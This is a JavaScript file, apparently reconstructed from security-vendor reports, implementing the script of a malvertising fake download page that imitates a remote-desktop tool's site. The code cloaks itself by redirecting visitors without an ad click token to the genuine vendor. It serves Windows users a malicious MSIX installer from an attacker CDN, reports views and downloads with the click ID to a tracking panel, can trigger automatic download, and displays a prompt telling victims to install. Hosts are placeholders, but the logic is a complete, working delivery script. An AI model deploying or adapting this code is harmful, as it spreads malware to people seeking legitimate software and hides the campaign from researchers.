// gclid-cloak (variant b), written from Malwarebytes Labs' reports on Google search ads
// that lead to fake software download sites (2023-2024): the script of the fake download
// page itself, a copy of a real remote-desktop tool's site. Visitors who did not arrive
// through the cloaking chain (no click token in the URL or session) are sent to the real
// vendor's site so the page cannot be studied; Windows visitors get the malicious installer
// (an MSIX package), others the genuine page, and every download is reported to the panel
// with the ad click ID. Hosts, file and campaign ID are made up (.invalid).
(function () {
  var q = new URLSearchParams(location.search);
  var tok = q.get("t") || sessionStorage.getItem("_ct");
  var REAL = "https://www.remotedesk-official.invalid/download/";
  if (!tok || !/^[A-Za-z0-9_-]{16,}$/.test(tok)) { location.replace(REAL); return; }
  sessionStorage.setItem("_ct", tok);
  history.replaceState(null, "", location.pathname);
  var win = /Windows NT 1\d/.test(navigator.userAgent);
  var FILE = "https://dl-cdn-remotedesk.invalid/files/" + tok.slice(0, 8) + "/RemoteDesk-8.0.9-x64.msix";
  var PANEL = "https://panel-stat.invalid/hit";
  function report(ev) {
    var b = new URLSearchParams({ e: ev, t: tok, c: "gads-0917", l: navigator.language, r: document.referrer });
    if (navigator.sendBeacon) navigator.sendBeacon(PANEL, b); else new Image().src = PANEL + "?" + b.toString();
  }
  report("view");
  function arm() {
    var btns = document.querySelectorAll("a.download, .btn-download, #download-now");
    for (var i = 0; i < btns.length; i++) {
      btns[i].href = win ? FILE : REAL;
      btns[i].removeAttribute("target");
      btns[i].addEventListener("click", function () {
        report(win ? "dl" : "skip");
        if (win) setTimeout(function () {
          var note = document.createElement("div");
          note.style.cssText = "position:fixed;bottom:20px;left:20px;background:#222;color:#fff;padding:14px;z-index:99999;font:14px Arial";
          note.textContent = "Your download has started. Open RemoteDesk-8.0.9-x64.msix and click Install.";
          document.body.appendChild(note);
        }, 600);
      });
    }
    if (win && q.get("auto") === "1") setTimeout(function () { location.href = FILE; }, 2500);
  }
  if (document.readyState === "loading") document.addEventListener("DOMContentLoaded", arm); else arm();
})();
